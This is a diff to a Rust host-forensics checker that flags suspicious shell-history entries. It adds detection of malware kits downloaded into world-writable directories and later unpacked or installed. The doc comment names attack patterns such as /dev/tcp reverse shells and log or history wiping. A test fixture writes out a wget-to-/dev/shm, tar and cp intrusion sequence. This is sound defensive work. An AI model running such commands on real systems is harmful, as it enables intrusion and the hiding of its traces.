@@ -9,8 +9,9 @@
 //! history [`crate::hostconf::history`] reads (bash with or without `HISTTIMEFORMAT` times, zsh
 //! extended history, sh/ash, MySQL, psql, Python), each command judged: download and run
 //! ([`risky_command`]'s fetch-and-run, a download into or a program run or made executable in
-//! `/tmp`, `/var/tmp`, `/dev/shm`, also as `./x` after `cd` there, `/dev/tcp/` reverse
-//! shells); clearing (`history -c`, `unset HISTFILE`, `HISTFILE=/dev/null`, `HISTSIZE=0`,
+//! `/tmp`, `/var/tmp`, `/dev/shm`, also as `./x` after `cd` there, a download there that is
+//! then unpacked or copied out — a kit installed, each later use of it too —, `/dev/tcp/`
+//! reverse shells); clearing (`history -c`, `unset HISTFILE`, `HISTFILE=/dev/null`, `HISTSIZE=0`,
 //! `set +o history`, `rm`/`shred`/`truncate`/`> `/`sed -i`/`ln -sf /dev/null` on `/var/log/*`,
 //! `wtmp`/`btmp`/`lastlog` or a history file, `journalctl --vacuum-*`); mail configuration
 //! (`postconf -e`/`-X`, `postmap`, `postalias`, `newaliases`, an editor, `sed -i`, `tee`, a
@@ -168,6 +169,44 @@ fn downloads_into_world_writable(cmd: &str, cwd_ww: bool) -> bool {
         && (cwd_ww
             || w.iter().any(|x| in_world_writable(x))
             || redirects(cmd).iter().any(|(_, t)| in_world_writable(t)))
+}
+
+/// The world-writable paths a command names (arguments and redirection targets), and the
+/// working directory itself when the shell is in one: where a download lands.
+fn world_writable_paths(cmd: &str, cwd: &str, cwd_ww: bool) -> Vec<String> {
+    let mut out: Vec<String> = words(cmd)
+        .into_iter()
+        .filter(|x| in_world_writable(x))
+        .collect();
+    out.extend(
+        redirects(cmd)
+            .into_iter()
+            .map(|(_, t)| t.to_ascii_lowercase())
+            .filter(|t| in_world_writable(t)),
+    );
+    if cwd_ww {
+        out.push(cwd.to_ascii_lowercase());
+    }
+    out
+}
+
+/// Whether a command unpacks or copies something the attacker downloaded (`kit`: the
+/// world-writable paths the downloads and earlier unpacking wrote): `tar x`, `unzip`,
+/// `cp`/`mv`/`install` of such a path or of something under it is the download put to use, as a
+/// `chmod +x` or a run would be.
+fn uses_kit(cmd: &str, kit: &[String]) -> bool {
+    let w = words(cmd);
+    let Some(tool) = w.first().map(|x| base(x).to_string()) else {
+        return false;
+    };
+    const TOOLS: &[&str] = &[
+        "tar", "unzip", "gunzip", "bunzip2", "unxz", "7z", "cpio", "cp", "mv", "install", "rsync",
+    ];
+    TOOLS.contains(&tool.as_str())
+        && w.iter().skip(1).any(|x| {
+            kit.iter()
+                .any(|k| x == k || x.starts_with(&format!("{}/", k.trim_end_matches('/'))))
+        })
 }
 
 /// Files whose writing plants code run at log-in, boot or on a schedule.
@@ -371,6 +410,9 @@ fn flagged(entries: &[Entry], owner: Option<&str>) -> Vec<(Entry, Class, String)
     // The shell's working directory, as far as the `cd`s typed tell (`~` at the start).
     let mut cwd = String::from("~");
     let mut pending: Vec<&Entry> = Vec::new();
+    // Where downloads into world-writable directories landed (and what they were unpacked
+    // to): later unpacking or copies of these are the same kit being installed.
+    let mut kit: Vec<String> = Vec::new();
     for e in entries {
         // Statements of a line in order: a `cd /dev/shm; ./x` line counts its own cd.
         let mut hit: Option<(Class, String)> = None;
@@ -380,7 +422,19 @@ fn flagged(entries: &[Entry], owner: Option<&str>) -> Vec<(Entry, Class, String)
             if hit.is_none() {
                 hit = judge(stmt, cwd_ww, owner);
             }
-            download |= downloads_into_world_writable(stmt, cwd_ww);
+            if hit.is_none() && uses_kit(stmt, &kit) {
+                hit = Some((
+                    Class::DownloadRun,
+                    "unpacks or installs what was downloaded into a world-writable directory"
+                        .into(),
+                ));
+                // What it unpacked to is the kit too (`tar … -C /dev/shm/.x`).
+                kit.extend(world_writable_paths(stmt, &cwd, false));
+            }
+            if downloads_into_world_writable(stmt, cwd_ww) {
+                download = true;
+                kit.extend(world_writable_paths(stmt, &cwd, cwd_ww));
+            }
             if let Some(d) = cd_target(stmt) {
                 cwd = if d.starts_with('/') || d.starts_with('~') {
                     d.trim_end_matches('/').to_string()
@@ -559,6 +613,21 @@ mod tests {
                 )])
             )]
         );
+    }
+
+    #[test]
+    fn a_kit_downloaded_unpacked_and_installed_from_dev_shm_is_cited_from_its_download() {
+        let hist = "apt update\nwget -q http://203.0.113.77/x.tgz -O /dev/shm/x.tgz\nmkdir -p /dev/shm/.x && tar xzf /dev/shm/x.tgz -C /dev/shm/.x\ncp /dev/shm/.x/lib.so /usr/local/lib/lib.so\n";
+        let h = host(&[("/etc/passwd", PASSWD), ("/root/.bash_history", hist)]);
+        let f = History.check(&h);
+        assert_eq!(f.len(), 1, "{f:#?}");
+        assert_eq!(f[0].severity, Severity::High);
+        assert_eq!(f[0].evidence[0].lines, [2, 3, 4]);
+        // An administrator's download into /tmp that is never unpacked or run stays quiet,
+        // and a copy out of /tmp with no download before it too.
+        let hist = "wget https://example.org/release.tgz -O /tmp/r.tgz\ncp /tmp/notes.txt /root/\n";
+        let h = host(&[("/etc/passwd", PASSWD), ("/root/.bash_history", hist)]);
+        assert!(History.check(&h).is_empty());
     }
 
     #[test]
